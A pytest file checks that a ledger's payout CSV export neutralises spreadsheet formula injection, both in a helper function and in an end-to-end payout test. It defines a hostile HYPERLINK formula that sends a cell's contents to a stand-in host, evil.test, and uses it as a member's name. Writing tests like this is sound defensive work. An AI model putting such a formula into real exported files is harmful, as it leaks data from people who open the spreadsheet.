"""The payout file a steward opens in a spreadsheet cannot run a member's name as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from ledger import books
from ledger.books import Leg
from ledger.payouts import spreadsheet_safe
from tests.conftest import pay_out

HOSTILE = '=HYPERLINK("http://evil.test/?leak="&A1,"Click for your pay")'


@pytest.mark.parametrize("cell", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx", HOSTILE])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_gets_a_leading_apostrophe(cell):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Amara Okafor", "EUR", "", "1+1", "a=b", 900, -5])
def test_other_cells_and_numbers_are_written_as_they_are(cell):
    assert spreadsheet_safe(cell) == cell


def test_a_member_named_like_a_formula_is_written_as_text_in_the_payout_file(runtime, steward, approver):
    runtime.policies.seed_defaults()
    member = runtime.members.apply(HOSTILE, "mallory@coop.test", "mallory-password")
    runtime.members.admit(steward, member, ("member",))
    runtime.ledger.post(
        "base-pay",
        "pay",
        [Leg(books.BASE_PAY, 900, "EUR"), Leg(books.member_payable(member), -900, "EUR")],
        "pay-mallory",
    )
    run = pay_out(runtime, steward, approver)
    rows = list(csv.reader(io.StringIO(runtime.payouts.export_csv(run))))
    assert rows[1][2] == "'" + HOSTILE
    assert rows[1][3] == "900"
